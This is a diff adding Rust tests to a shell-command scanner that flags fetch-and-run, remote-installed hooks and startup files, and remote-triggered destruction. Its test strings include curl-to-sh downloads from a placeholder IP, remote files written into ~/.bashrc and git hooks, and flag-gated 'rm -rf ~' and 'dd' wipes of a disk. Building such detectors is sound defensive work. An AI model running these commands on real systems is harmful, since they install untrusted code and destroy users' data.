@@ -426,6 +426,13 @@ fn deep_and_long_texts_end() {
         (format!("cat <<A > f\n{long}\nA\n{{ {half_a_megabyte} }} < f"), true),
         ("f(){ f; f; }\n".to_owned() + &"f;".repeat(1000), false),
         ("curl a.example | sh;".repeat(20_000), false),
+        (
+            format!(
+                "for a in {0}; do for b in {0}; do for c in {0}; do x; done; done; done",
+                "1.2.3.4 a ".repeat(4_000)
+            ),
+            true,
+        ),
         ("eval 'eval \"$a\"'; a='eval \"$a\"; eval \"$a\"'; eval \"$a\"".to_owned(), true),
     ];
     for (text, exhausts) in texts {
@@ -490,4 +497,99 @@ fn programs_inside_of_programs_end() {
         .stack_size(2 << 20)
         .spawn(move || chains(&text, Start::Automatic, &mut Limits::default()).len());
     assert_eq!(read.unwrap().join().unwrap(), 0);
+}
+
+#[test]
+fn each_word_of_a_loop_and_each_argument_counts() {
+    let honest: String = (0..12).map(|at| format!("https://dl{at}.vendor.example/x ")).collect();
+    let folders: String =
+        (0..20).map(|at| format!("git clone https://code.vendor.example/{at}\n")).collect();
+    let names: String = (0..20).map(|at| format!("name{at} ")).collect();
+    for text in [
+        format!("for u in {honest} http://203.0.113.9/x; do curl -s $u | sh; done"),
+        format!("for u in {names} 203.0.113.9; do curl -s $u | sh; done"),
+        format!("for c in {honest} 'curl http://203.0.113.9/x | sh'; do eval \"$c\"; done"),
+        format!(
+            "f() {{ for u in $@; do curl -s $u | sh; done; }}\nf {honest} http://203.0.113.9/x"
+        ),
+        format!("curl -s {honest} http://203.0.113.9/x | sh"),
+        format!("{folders}git clone http://203.0.113.9/t.git /tmp/kit\nsh /tmp/kit/setup.sh"),
+    ] {
+        assert!(rules(&text).contains(&Rule::FetchRun), "{text}");
+    }
+    let read = |text: &str| {
+        let mut limits = Limits::default();
+        let _ = chains(text, Start::Asked, &mut limits);
+        !limits.exhausted
+    };
+    let many: String = (0..90).map(|at| format!("https://dl{at}.vendor.example/x ")).collect();
+    assert!(!read(&format!("for u in {many}; do curl -s $u | sh; done")));
+    assert!(!read(&format!("f() {{ curl -s $1; }}\nf {many}")));
+    assert!(!read(&format!("curl {many}")));
+    assert!(!read(&format!("curl -s {{{}}} | sh", many.trim().replace(' ', ","))));
+    let plain: String = (0..500).map(|at| format!("name{at} ")).collect();
+    assert!(read(&format!("for n in {plain}; do make $n; done")));
+    assert!(read(&format!("for u in {honest}; do curl -sO $u; done\n{folders}")));
+}
+
+#[test]
+fn a_start_file_that_is_installed_once_blocks_only_from_a_nameless_host() {
+    const HOST: &str = "https://raw.githubusercontent.com/example/tool/main";
+    for (text, shown) in [
+        (format!("curl -fsSL {HOST}/a.rules | sudo tee /etc/udev/rules.d/99-a.rules"), false),
+        (format!("sudo curl -fsSL {HOST}/a.service -o /etc/systemd/system/a.service"), false),
+        (format!("curl {HOST}/a.desktop -o ~/.local/share/applications/a.desktop"), false),
+        (format!("wget -O ~/.vimrc {HOST}/.vimrc"), false),
+        (format!("curl {HOST}/gitconfig -o ~/.gitconfig"), false),
+        (format!("curl {HOST}/aliases -o ~/.bash_aliases"), true),
+        (format!("curl -Lo .git/hooks/commit-msg {HOST}/c\nchmod +x .git/hooks/commit-msg"), true),
+        (format!("{{ echo '#!/bin/sh'; curl -s {HOST}/c; }} > .git/hooks/commit-msg"), true),
+        (
+            format!(
+                "curl {HOST}/a.tgz | tar xz -C /opt/a; cp /opt/a/a.service /etc/systemd/system/"
+            ),
+            false,
+        ),
+        (
+            "git clone https://github.com/example/dot ~/dot\ncp ~/dot/zshrc ~/.zshrc".to_owned(),
+            true,
+        ),
+    ] {
+        let expected: &[Rule] = if shown { &[Rule::FetchEvaluated] } else { &[] };
+        assert_eq!(rules(&text), expected, "{text}");
+    }
+    for text in [
+        "curl -fsSL http://203.0.113.9/a.service -o /etc/systemd/system/a.service",
+        "wget -O ~/.vimrc http://203.0.113.9/.vimrc",
+        "curl http://203.0.113.9/aliases -o ~/.bash_aliases",
+        "curl http://203.0.113.9/c -o .git/hooks/commit-msg",
+    ] {
+        assert_eq!(rules(text), [Rule::FetchRun], "{text}");
+    }
+    let hook = "curl https://cdn.helper.example/a >> ~/.bashrc";
+    assert_eq!(automatic(hook), [Rule::AutomaticFetchRun]);
+}
+
+#[test]
+fn a_fetch_before_a_clean_up_or_a_flash_is_no_switch() {
+    for text in [
+        "curl -fL -o a.img https://dl.vendor.example/a.img && sudo dd if=a.img of=/dev/mmcblk0 bs=4M",
+        "curl -fLO https://dl.vendor.example/a.img && dd if=/dev/zero of=/dev/sdb count=1 && dd if=a.img of=/dev/sdb",
+        "curl -fsS https://hc-ping.vendor.example/u >/dev/null && find ~ -name .DS_Store -delete",
+        "if curl -fsS https://hc-ping.vendor.example/u; then find /var -name '*.gz' -mtime +30 -delete; fi",
+        "curl -fsS https://mirror.vendor.example/ >/dev/null && mkfs.ext4 /dev/vdb",
+        "if curl -fsS https://git.vendor.example/healthz; then git push --mirror --force backup; fi",
+    ] {
+        assert_eq!(rules(text), [], "{text}");
+    }
+    for text in [
+        "curl -fs https://flag.helper.example/on && find ~ -delete",
+        "curl -fs https://flag.helper.example/on && find ~ -type f -delete",
+        "curl -fs https://flag.helper.example/on && find ~ -name '*' -delete",
+        "curl -fs https://flag.helper.example/on && find ~ ! -name keep -delete",
+        "curl -fs https://flag.helper.example/on && dd if=/dev/zero of=/dev/sda",
+        "curl -fs https://flag.helper.example/on -o /tmp/x && rm -rf ~",
+    ] {
+        assert_eq!(rules(text), [Rule::RemoteDestruction], "{text}");
+    }
 }
